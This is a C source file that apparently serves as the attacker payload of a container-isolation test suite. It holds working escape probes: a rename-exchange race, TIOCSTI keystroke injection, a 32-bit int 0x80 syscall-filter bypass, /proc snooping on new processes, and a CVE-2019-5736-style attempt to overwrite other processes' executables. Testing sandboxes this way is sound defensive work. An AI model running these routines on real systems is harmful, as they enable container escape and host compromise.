// intruder.c: what somebody would try who wants to get out of a container.
#define _GNU_SOURCE
#include "payload.h"

#include <asm/ioctls.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static volatile sig_atomic_t over;

static void finish(int signal) {
    (void)signal;
    over = 1;
}

// Exchange two names for as long as the process lives: whoever checks one finds the other.
int do_swap(int argc, char **argv) {
    (void)argc;
    puts("ready");
    fflush(stdout);
    for (;;)
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE))
            return fail(argv[1]);
}

int do_socket(int argc, char **argv) {
    (void)argc;
    int fd = socket(atoi(argv[1]), SOCK_STREAM, 0);
    if (fd < 0 && (errno == ESOCKTNOSUPPORT || errno == EPROTOTYPE))
        fd = socket(atoi(argv[1]), SOCK_SEQPACKET, 0);
    puts(fd < 0 ? strerrorname_np(errno) : "ok");
    return fd < 0;
}

// Push a character into the input of the terminal at a path, as if somebody had typed it (ioctl_tty(2)).
int do_tiocsti(int argc, char **argv) {
    (void)argc;
    int fd = strcmp(argv[1], "-") == 0 ? 0 : open(argv[1], O_RDWR | O_NOCTTY | O_CLOEXEC);
    int refused = fd < 0 || ioctl(fd, TIOCSTI, argv[2]) < 0;
    puts(refused ? strerrorname_np(errno) : "ok");
    return refused;
}

// The 32-bit way into the kernel, whose numbers are others and which a filter may have forgotten.
int do_int80(int argc, char **argv) {
    (void)argc;
    long result = -ENOSYS;
#ifdef __x86_64__
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "0"(strtol(argv[1], NULL, 0)), "b"(0), "c"(0), "d"(0)
                     : "memory", "r8", "r9", "r10", "r11");
#else
    (void)argv;
#endif
    return printf("%s\n", result < 0 ? strerrorname_np((int)-result) : "ok") < 0;
}

// ---- looking at processes that come in ------------------------------------------------------------

static int is_new(const char *name, const char *known) {
    char key[40];
    snprintf(key, sizeof key, " %.20s ", name);
    return atoi(name) > 0 && strstr(known, key) == NULL;
}

static void list_processes(char *known, size_t size) {
    DIR *proc = opendir("/proc");
    size_t at = (size_t)snprintf(known, size, " ");
    for (struct dirent *entry; proc && (entry = readdir(proc)) && at < size - 40;)
        if (atoi(entry->d_name) > 0)
            at += (size_t)snprintf(known + at, size - at, "%.20s ", entry->d_name);
    if (proc)
        closedir(proc);
}

// Print where a link of a process leads; 0 when that may not be known.
static int look_at(const char *pid, const char *name) {
    char path[300], target[4096];
    snprintf(path, sizeof path, "/proc/%.20s/%.200s", pid, name);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n < 0)
        return errno == EACCES || errno == EPERM ? 0 : -1;
    printf("%.*s %.*s\n", (int)strcspn(name, "/"), name, (int)n, target);
    return 1;
}

static int look_into(const char *pid, const char *directory) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%.20s/%.20s", pid, directory);
    DIR *entries = opendir(path);
    if (!entries)
        return errno == EACCES || errno == EPERM ? 0 : -1;
    for (struct dirent *entry; (entry = readdir(entries));) {
        snprintf(path, sizeof path, "%s/%.100s", directory, entry->d_name);
        if (entry->d_name[0] != '.')
            look_at(pid, path);
    }
    closedir(entries);
    return 1;
}

// Spin over /proc until SIGTERM and print what can be learnt of processes that were not there at the start;
// at the end, how often nothing could.
int do_peep(int argc, char **argv) {
    (void)argc, (void)argv;
    static const char *const links[] = {"exe", "cwd", "root"};
    char known[8192];
    long denied = 0, seen = 0;
    signal(SIGTERM, finish);
    list_processes(known, sizeof known);
    puts("ready");
    fflush(stdout);
    while (!over) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            if (!is_new(entry->d_name, known))
                continue;
            for (size_t i = 0; i < 3; i++) {
                int shown = look_at(entry->d_name, links[i]);
                denied += shown == 0, seen += shown > 0;
            }
            denied += look_into(entry->d_name, "fd") == 0;
            denied += look_into(entry->d_name, "map_files") == 0;
        }
        if (proc)
            closedir(proc);
    }
    return printf("denied %ld\nseen %ld\n", denied, seen) < 0;
}

// ---- taking hold of programs ------------------------------------------------------------------------

// Open a program for reading, then try to come to a writable descriptor of the same file and to change it.
static void overwrite(int program, const char *pid) {
    static const int ways[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND};
    char path[64], target[256] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    if (readlink(path, target, sizeof target - 1) < 0 || strstr(target, "/payload"))
        return;
    fchmod(program, 0777);
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        int fd = open(path, ways[i] | O_CLOEXEC);
        int changed = fd >= 0 && (pwrite(fd, "#!", 2, 0) == 2 || ftruncate(fd, 0) == 0);
        printf("%s %s %s\n", pid, target, changed ? "CHANGED" : strerrorname_np(errno));
        if (fd >= 0)
            close(fd);
    }
}

// Until SIGTERM: reach for the program of every other process (CVE-2019-5736), also after it has ended.
int do_steal_programs(int argc, char **argv) {
    (void)argc, (void)argv;
    int held[64], count = 0;
    char path[300];
    signal(SIGTERM, finish);
    puts("ready");
    fflush(stdout);
    while (!over) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            if (atoi(entry->d_name) <= 0 || atoi(entry->d_name) == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%.20s/exe", entry->d_name);
            int program = open(path, O_RDONLY | O_CLOEXEC);
            if (program < 0)
                continue;
            overwrite(program, entry->d_name);
            if (count < 64)
                held[count++] = program;
            else
                close(program);
        }
        if (proc)
            closedir(proc);
    }
    for (int i = 0; i < count; i++)
        overwrite(held[i], "later");
    return 0;
}
